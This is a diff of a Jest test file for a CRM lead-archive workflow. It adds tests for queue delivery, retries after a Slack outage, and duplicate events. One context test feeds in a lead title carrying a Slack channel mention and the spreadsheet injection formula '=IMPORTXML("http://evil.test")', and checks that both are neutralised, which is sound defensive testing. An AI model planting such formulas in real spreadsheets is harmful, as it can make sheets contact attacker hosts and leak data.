@@ -2,6 +2,7 @@ import { readdir } from 'node:fs/promises';
 
 import { EXAMPLES } from '../../demo/readExample.mjs';
 import { ACME, EXAMPLES_FOLDER, exampleText, type ExampleWorld, openExampleWorld } from './support/exampleWorld.mjs';
+import { until } from './support/until.mjs';
 
 jest.setTimeout(180_000);
 
@@ -76,6 +77,7 @@ describe('the lead archive', () => {
 		keep = await world.activate('lead-archive-keep');
 		told = await world.activate('lead-archive-deleted-lead');
 	});
+	afterAll(async () => await Promise.all([keep, told].map(async (id) => await world.client.deactivate(id))));
 
 	test('tells name, company, phone, owner and value of a lead that is gone, as they were last', async () => {
 		const { portal, services } = world;
@@ -121,6 +123,7 @@ describe('the lead archive', () => {
 
 	test('knows the owner by number where the app may not look people up', async () => {
 		const { portal, services } = world;
+		const { scope } = portal.app;
 		portal.app.scope = ['crm'];
 		const { ID } = portal.leads.add({ TITLE: 'Small', ASSIGNED_BY_ID: '15' });
 		await world.succeeded(keep, 3);
@@ -128,6 +131,7 @@ describe('the lead archive', () => {
 		await world.succeeded(told, 3);
 		expect(services.messages[0]?.text).toContain(`Lead 'Small' (#${ID})`);
 		expect(services.messages[0]?.text).toContain('\nowner user #15\n');
+		portal.app.scope = scope;
 	});
 
 	test('lets nobody reach others through a lead’s title: no mention on Slack, no formula in the sheet', async () => {
@@ -138,5 +142,72 @@ describe('the lead archive', () => {
 		await world.succeeded(told, 4);
 		expect(services.messages[0]?.text).toContain("'&lt;!channel>'");
 		expect([services.rows[1]?.[3], services.valueInputOption]).toEqual(['=IMPORTXML("http://evil.test")', 'RAW']);
+	});
+});
+
+describe('the queue', () => {
+	let told: string;
+	beforeAll(async () => {
+		const keep = await world.activate('lead-archive-keep');
+		world.portal.leads.add(ACME);
+		await world.succeeded(keep, 1);
+		await world.client.deactivate(keep);
+		told = await world.activate('queue-deleted-lead');
+		world.portal.deliveries.length = 0;
+	});
+
+	const queueIsEmpty = () => until('the queue is empty', () => world.portal.queue.records().length === 0);
+
+	test('a deleted lead is told from the queue, with what the archive knows of it', async () => {
+		const { portal, services } = world;
+		portal.leads.delete(ACME.ID);
+		await world.succeeded(told, 1);
+		const where = new URL(portal.portalUrl).host;
+		expect(services.messages.map(({ text }) => text.split('\n'))).toEqual([
+			[
+				`Lead 'Acme Ltd' (#1000983) was deleted by Vadim Valeev on ${where}`,
+				'Acme &amp; Sons, +1 202 555 0143, owner Olga Orlova, 2500 EUR',
+				`<https://${where}/crm/recyclebin/|Recycle bin>`,
+			],
+		]);
+		expect(services.rows[1]).toEqual(expect.arrayContaining(['Acme Ltd', 'Olga Orlova', 'Vadim Valeev']));
+		await queueIsEmpty();
+		expect(portal.deliveries.filter(({ event }) => event === 'ONCRMLEADDELETE')).toEqual([]);
+	});
+
+	test('a robot is told as such', async () => {
+		const { portal, services } = world;
+		const { ID } = portal.leads.add();
+		portal.leads.delete(ID, { by: 'robot' });
+		await world.succeeded(told, 2);
+		expect(services.messages.at(-1)?.text).toContain(`Lead #${ID} was deleted by a robot on`);
+	});
+
+	test('a message that did not get out is repeated', async () => {
+		const { portal, services, client } = world;
+		const before = services.messages.length;
+		services.slackIsDown = true;
+		const { ID } = portal.leads.add();
+		portal.leads.delete(ID);
+		await until('a run has failed', async () => (await client.executions(told, { status: 'error' })).length > 0);
+		services.slackIsDown = false;
+		await queueIsEmpty();
+		expect(services.messages.slice(before).map(({ text }) => text.split(' was')[0])).toEqual([`Lead #${ID}`]);
+	});
+
+	test('an event that comes again after its message is out is left out', async () => {
+		const { portal, services, client, n8n } = world;
+		const before = services.messages.length;
+		const ran = (await client.executions(told, { status: 'success' })).length;
+		portal.faults.next('event.offline.clear', 'timeout', { times: 1000 });
+		const { ID } = portal.leads.add();
+		portal.leads.delete(ID);
+		await until('the run has ended', async () => (await client.executions(told, { status: 'success' })).length > ran);
+		await n8n.kill();
+		portal.faults.clear();
+		await n8n.start();
+		await queueIsEmpty();
+		await until('it came again', async () => (await client.executions(told, { status: 'success' })).length > ran + 1);
+		expect(services.messages.slice(before).map(({ text }) => text.split(' was')[0])).toEqual([`Lead #${ID}`]);
 	});
 });
